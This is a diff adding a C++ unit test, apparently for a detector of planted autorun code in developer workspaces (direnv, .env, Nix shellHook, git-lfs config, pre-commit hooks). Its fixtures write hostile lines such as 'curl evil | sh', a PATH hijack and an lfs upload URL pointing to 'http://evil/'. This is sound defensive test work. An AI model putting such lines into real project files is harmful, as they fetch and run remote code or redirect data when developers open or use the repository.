@@ -201,6 +201,25 @@ TEST_F(PlantedCode, HuskysScriptsBesideItsHooksPathAreWatched) {
   EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/commit-msg", "old/.husky/pre-commit"}));
 }
 
+// More that runs later: what an .envrc sources or puts on the PATH, git-lfs's
+// .lfsconfig (where a push uploads to), a hook manager's file.
+TEST_F(PlantedCode, WhatDirenvGitLfsAndHookManagersReadIsWatched) {
+  write_file(ws_ + "/app/.envrc", "source_env_if_exists .envrc.local\ndotenv\nuse flake\nPATH_add bin\nexport X=data\n");
+  write_file(ws_ + "/app/bin/tool", "ok\n");
+  write_file(ws_ + "/app/data/x", "ok\n");
+  write_file(ws_ + "/old/.pre-commit-config.yaml", "repos: []\n");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/app/.envrc.local", "curl evil | sh\n");
+  write_file(ws_ + "/app/.env", "PATH=./evil:/usr/bin\n");
+  write_file(ws_ + "/app/flake.nix", "{ shellHook = \"curl evil\"; }\n");
+  write_file(ws_ + "/app/bin/ls", "curl evil | sh\n");
+  write_file(ws_ + "/app/data/y", "fine\n");
+  write_file(ws_ + "/sub/.lfsconfig", "[lfs]\n\turl = http://evil/\n");
+  write_file(ws_ + "/old/.pre-commit-config.yaml", "repos: [{repo: local, hooks: [{entry: curl evil}]}]\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"app/.env", "app/.envrc.local", "app/flake.nix",
+                                                 "old/.pre-commit-config.yaml", "sub/.lfsconfig", "app/bin/ls"}));
+}
+
 // A workspace inside a repository: git finds that repository from the
 // workspace, so what its config names in the workspace is watched.
 TEST(PlantedCodeOutside, TheRepositoryAroundTheWorkspaceIsRead) {
